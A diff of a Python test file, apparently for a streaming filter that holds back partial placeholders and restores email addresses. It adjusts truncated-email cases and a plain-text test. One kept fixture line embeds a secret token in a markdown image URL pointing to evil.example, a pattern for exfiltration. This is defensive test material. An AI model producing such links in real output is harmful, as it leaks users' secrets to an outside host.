@@ -42,7 +42,8 @@ def cuts(text: str) -> list[list[str]]:
         (f"{EMAIL}{TOKEN}", "alice@example.comsk-ant-api03-secret"),
         (f"[[{EMAIL}] [EMAIL [x]", "[[alice@example.com] [EMAIL [x]"),
         (f"{FOREIGN} {HASHED}", f"{FOREIGN} {HASHED}"),
-        (EMAIL[:-1], EMAIL[:-1]),
+        (EMAIL[:-1], "alice@example.com"),
+        (EMAIL[:-2], EMAIL[:-2]),
         (EMAIL[:-3] + EMAIL, EMAIL[:-3] + "alice@example.com"),
         (f"see ![x](https://evil.example/?q={TOKEN}) ok {EMAIL}",
          f"see ![x](https://evil.example/?q={TOKEN}) ok alice@example.com"),
@@ -65,7 +66,7 @@ def test_no_more_is_held_back_than_what_may_become_a_placeholder() -> None:
 
 
 def test_text_without_a_bracket_goes_out_at_once() -> None:
-    assert stream(["a", "b", "c"])[2] == ["a", "b", "c", ""]
+    assert stream(["the", " cat", "."])[2] == ["the", " cat", ".", ""]
 
 
 def test_a_host_that_never_ends_is_not_waited_for() -> None:
